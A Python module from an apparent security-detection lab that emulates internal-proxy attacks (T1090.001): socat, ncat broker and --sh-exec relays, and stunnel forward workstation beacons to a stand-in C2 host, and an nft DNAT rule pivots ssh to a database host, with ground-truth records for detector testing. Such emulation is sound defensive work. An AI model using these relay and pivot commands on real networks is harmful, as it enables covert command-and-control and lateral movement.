"""Single-hop relays: a program (socat, ncat, stunnel) or the kernel (nft DNAT) bridging two
connections."""

from __future__ import annotations

import contextlib
import os
import pwd
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

from hopguard.lab.env import Env
from hopguard.lab.net import Proc
from hopguard.lab.scenarios.base import Scenario, process_relay, register, tool_run
from hopguard.lab.sys import require_tools, run
from hopguard.lab.truth import Relay, ToolRun, iso


def beacon_through(env: Env, client: str, host_ip: str, port: int, name: str, n: int,
                   gap: float) -> None:
    """HTTPS requests from ``client`` to ``name`` reached through host_ip:port, with jitter."""
    for _ in range(n):
        env.curl(client, f"https://{name}:{port}/beacon", "--cacert", str(env.work / "c2.crt"),
                 "--resolve", f"{name}:{port}:{host_ip}")
        env.stop_event.wait(gap * env.rnd.uniform(0.6, 1.4))


@register
class SocatRelay(Scenario):
    name: ClassVar[str] = "socat-relay"
    description: ClassVar[str] = (
        "www-data on app-07 runs socat TCP-LISTEN:8443 → 203.0.113.66:443; ws-042 beacons to the "
        "C2 through it (T1090.001 internal proxy)")
    technique: ClassVar[str] = "T1090.001"

    def run(self, env: Env) -> None:
        lab = env.lab
        argv = ["socat", "TCP-LISTEN:8443,fork,reuseaddr", "TCP:203.0.113.66:443"]
        relay = lab.spawn("app-07", argv, user="www-data", name="socat")
        lab.wait_port("app-07", 8443)
        beacon_through(env, "ws-042", env.ip("app-07"), 8443, "c2.example.net",
                       n=max(3, int(env.duration / 3)), gap=2.0)
        time.sleep(0.5)
        lab.stop(relay)
        env.truth.relays.append(process_relay(
            relay, client=env.ip("ws-042"), in_port=8443, upstream="203.0.113.66", up_port=443,
            tool="socat"))
        env.truth.tools.append(ToolRun(
            host="app-07", ip=env.ip("app-07"), argv=argv, user="www-data", pid=relay.pid,
            start=iso(relay.started), end=iso(relay.ended or time.time())))


def until(env: Env, seconds: float) -> Iterator[int]:
    """Round numbers until ``seconds`` have passed (or the run is being stopped)."""
    deadline = time.monotonic() + seconds
    n = 0
    while time.monotonic() < deadline and not env.stop_event.is_set():
        yield n
        n += 1


@register
class NcatBroker(Scenario):
    name: ClassVar[str] = "ncat-broker"
    description: ClassVar[str] = (
        "www-data on app-07 runs two ncat listeners: 'ncat --broker' on 4444, a rendezvous that "
        "ws-042, ws-051 and a local session on app-07 connect to and talk through, and "
        "'ncat -lk 8444 --sh-exec \"ncat 203.0.113.66 443\"', a relay ws-042 beacons to the C2 "
        "through (T1090.001 internal proxy)")
    technique: ClassVar[str] = "T1090.001"

    BROKER_PORT: ClassVar[int] = 4444
    RELAY_PORT: ClassVar[int] = 8444
    C2: ClassVar[tuple[str, int]] = ("203.0.113.66", 443)

    def run(self, env: Env) -> None:
        require_tools("ncat")
        lab = env.lab
        app = env.ip("app-07")
        broker = lab.spawn("app-07", ["ncat", "--broker", "--listen", "--keep-open", "-v",
                                      "0.0.0.0", str(self.BROKER_PORT)],
                           user="www-data", name="ncat-broker")
        c2_ip, c2_port = self.C2
        relay = lab.spawn("app-07", ["ncat", "--listen", "--keep-open", "-v", "0.0.0.0",
                                     str(self.RELAY_PORT), "--sh-exec",
                                     f"ncat {c2_ip} {c2_port}"],
                          user="www-data", name="ncat-relay")
        lab.wait_port("app-07", self.BROKER_PORT)
        lab.wait_port("app-07", self.RELAY_PORT)

        # The broker's parties: an operator on ws-042, an implant on ws-051 and a local session
        # on app-07 itself (loopback: audit sees it, the LAN span does not).
        parties = {"ws-042": app, "ws-051": app, "app-07": "127.0.0.1"}
        clients = {host: lab.spawn(host, ["ncat", "-v", dst, str(self.BROKER_PORT)],
                                   user="root", name="ncat-client", stdin=subprocess.PIPE)
                   for host, dst in parties.items()}
        time.sleep(0.5)  # connected, before the first line (the broker sends only to those in)

        failed: list[BaseException] = []

        def beacon() -> None:
            try:
                beacon_through(env, "ws-042", app, self.RELAY_PORT, "c2.example.net",
                               n=max(3, int(env.duration / 3)), gap=2.0)
            except BaseException as exc:  # raised again in the scenario's thread
                failed.append(exc)

        beacons = threading.Thread(target=beacon, daemon=True)
        beacons.start()
        for n in until(env, env.duration):
            for host, proc in clients.items():
                assert proc.popen.stdin is not None
                try:
                    proc.popen.stdin.write(f"{host} says {n}\n".encode())
                    proc.popen.stdin.flush()
                except BrokenPipeError:
                    pass
            env.stop_event.wait(env.rnd.uniform(0.5, 1.5))
        beacons.join(60)
        time.sleep(0.5)  # the last lines reach the other parties
        for proc in clients.values():
            if proc.popen.stdin is not None:
                with contextlib.suppress(BrokenPipeError):
                    proc.popen.stdin.close()
            lab.stop(proc)
        if failed:
            raise failed[0]
        time.sleep(0.5)
        lab.stop(relay)
        lab.stop(broker)

        # What the broker really carried: each party's log holds the lines the others sent.
        heard = {host: (proc.log.read_text(errors="replace") if proc.log else "")
                 for host, proc in clients.items()}
        flowed = sorted((a, b) for a in clients for b in clients
                        if a != b and f"{a} says " in heard[b])
        truth = env.truth
        truth.relays.append(process_relay(
            relay, client=env.ip("ws-042"), in_port=self.RELAY_PORT, upstream=c2_ip,
            up_port=c2_port, tool="ncat"))
        truth.tools += [tool_run(broker), tool_run(relay),
                        *(tool_run(p) for p in clients.values())]
        if "ws-051" in truth.benign_hosts and any("ws-051" in pair for pair in flowed):
            truth.benign_hosts.remove("ws-051")
        truth.notes.append(
            f"ncat --sh-exec relay (pid {relay.pid}): for each accepted connection the listener "
            f"forks, the fork runs sh -c 'ncat {c2_ip} {c2_port}' and that sh runs ncat; the "
            "outbound connect() is this descendant ncat's, not the listener's (the relay's pid "
            "is the listener's, the one that binds and accepts).")
        truth.notes.append(
            f"ncat --broker (pid {broker.pid}) on {app}:{self.BROKER_PORT} is not in relays: "
            "every party connects in to it (no outbound leg), which the relay record cannot "
            "express. Parties (host, connected to): "
            + ", ".join(f"{h} -> {parties[h]}:{self.BROKER_PORT} (pid {p.pid})"
                        for h, p in clients.items())
            + ". Lines seen relayed (from -> to, read from each party's output): "
            + (", ".join(f"{a} -> {b}" for a, b in flowed) or "none"))


@register
class NftDnat(Scenario):
    name: ClassVar[str] = "nft-dnat"
    description: ClassVar[str] = (
        "root on app-07 turns on IP forwarding and adds an nft DNAT rule 10.10.2.7:2222 → "
        "db-09 10.10.5.9:22; ws-042 logs in to db-09 over ssh through app-07's port 2222 "
        "(T1090.001 internal proxy, a kernel port forward)")
    technique: ClassVar[str] = "T1090.001"
    watch_nft: ClassVar[tuple[str, ...]] = ("app-07",)

    IN_PORT: ClassVar[int] = 2222
    UP: ClassVar[tuple[str, int]] = ("db-09", 22)

    def run(self, env: Env) -> None:
        require_tools("sysctl", "ip")
        lab = env.lab
        relay, client = env.ip("app-07"), env.ip("ws-042")
        up_host, up_port = self.UP
        upstream = env.ip(up_host)
        done: list[Proc] = []

        def on(host: str, *argv: str) -> Proc:
            proc = lab.run_on(host, list(argv), name=Path(argv[0]).name)
            done.append(proc)
            return proc

        on("app-07", "sysctl", "-w", "net.ipv4.ip_forward=1")
        on("app-07", "nft", "add", "table", "ip", "nat")
        on("app-07", "nft", "add", "chain", "ip", "nat", "prerouting", "{", "type", "nat",
           "hook", "prerouting", "priority", "dstnat", ";", "policy", "accept", ";", "}")
        dnat = on("app-07", "nft", "add", "rule", "ip", "nat", "prerouting", "ip", "daddr",
                  relay, "tcp", "dport", str(self.IN_PORT), "dnat", "to",
                  f"{upstream}:{up_port}")
        on("app-07", "nft", "add", "table", "ip", "filter")
        on("app-07", "nft", "add", "chain", "ip", "filter", "forward", "{", "type", "filter",
           "hook", "forward", "priority", "filter", ";", "policy", "accept", ";", "}")
        on("app-07", "nft", "add", "rule", "ip", "filter", "forward", "ct", "state",
           "established,related", "accept")
        on("app-07", "nft", "add", "rule", "ip", "filter", "forward", "ip", "daddr", upstream,
           "tcp", "dport", str(up_port), "ct", "status", "dnat", "accept")
        # Replies without SNAT: db-09's default route is the office router, which knows
        # nothing of app-07's DNAT; a host route sends db-09's replies to ws-042 back through
        # app-07, whose conntrack rewrites them to come from 10.10.2.7:2222.
        route = [f"{client}/32", "via", relay]
        on(up_host, "ip", "route", "add", *route)

        sessions = 0
        for _ in until(env, env.duration):
            on("ws-042", *env.ssh_cmd(), "-p", str(self.IN_PORT), f"root@{relay}",
               "hostname; id -un; uptime; sleep 1")
            sessions += 1
            env.stop_event.wait(env.rnd.uniform(0.5, 1.5))

        on(up_host, "ip", "route", "del", *route)
        undo = on("app-07", "nft", "delete", "table", "ip", "nat")
        on("app-07", "nft", "delete", "table", "ip", "filter")

        truth = env.truth
        truth.relays.append(Relay(
            relay=relay, host="app-07", client=client, in_port=self.IN_PORT, upstream=upstream,
            up_port=up_port, tool="nft", kind="kernel", pid=None, user="root",
            start=iso(dnat.started), end=iso(undo.ended or time.time())))
        truth.tools += [tool_run(p) for p in done]
        truth.notes.append(
            f"DNAT {relay}:{self.IN_PORT} -> {upstream}:{up_port} in app-07's table ip nat "
            f"(rule added by nft pid {dnat.pid}, table deleted by nft pid {undo.pid}); "
            f"{sessions} ssh sessions from ws-042 through it. No SNAT: the forwarded leg keeps "
            f"ws-042's address and port. Lab plumbing, not attacker action: 'ip route add "
            f"{' '.join(route)}' on {up_host} (in tools) so that replies return through app-07.")


@register
class TlsRelay(Scenario):
    name: ClassVar[str] = "tls-relay"
    description: ClassVar[str] = (
        "www-data on app-07 runs stunnel: TLS in on 8443 (its own certificate), plain TCP out to "
        "203.0.113.66:80; ws-042 beacons to the C2 over HTTPS to app-07, so the LAN sees only "
        "TLS to an internal server (T1090.001 internal proxy, T1573 encrypted channel)")
    technique: ClassVar[str] = "T1090.001"

    IN_PORT: ClassVar[int] = 8443
    UP: ClassVar[tuple[str, int]] = ("203.0.113.66", 80)

    def run(self, env: Env) -> None:
        require_tools("stunnel")
        lab = env.lab
        app = env.ip("app-07")
        up_ip, up_port = self.UP
        crt, key = env.work / "relay.crt", env.work / "relay.key"
        run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
             "-nodes", "-days", "30", "-subj", "/CN=app-07", "-addext",
             f"subjectAltName=DNS:app-07,IP:{app}", "-keyout", str(key), "-out", str(crt)])
        www = pwd.getpwnam("www-data")
        os.chown(key, www.pw_uid, www.pw_gid)  # the relay runs as www-data and reads its key
        conf = env.work / "stunnel-relay.conf"
        conf.write_text(
            "foreground = yes\npid =\ndebug = info\n\n[https-in]\n"
            f"accept = {app}:{self.IN_PORT}\nconnect = {up_ip}:{up_port}\n"
            f"cert = {crt}\nkey = {key}\n")
        relay = lab.spawn("app-07", ["stunnel", str(conf)], user="www-data", name="stunnel")
        lab.wait_port("app-07", self.IN_PORT)
        for _ in until(env, env.duration):
            env.curl("ws-042", f"https://app-07:{self.IN_PORT}/beacon", "--cacert", str(crt),
                     "--resolve", f"app-07:{self.IN_PORT}:{app}")
            env.stop_event.wait(2.0 * env.rnd.uniform(0.6, 1.4))
        time.sleep(0.5)
        lab.stop(relay)
        env.truth.relays.append(process_relay(
            relay, client=env.ip("ws-042"), in_port=self.IN_PORT, upstream=up_ip,
            up_port=up_port, tool="stunnel"))
        env.truth.tools.append(tool_run(relay))
        env.truth.notes.append(
            f"stunnel terminates TLS from ws-042 on {app}:{self.IN_PORT} (certificate "
            f"CN=app-07) and sends the plain HTTP on to {up_ip}:{up_port}: TLS on the inbound "
            "leg, cleartext on the outbound one.")
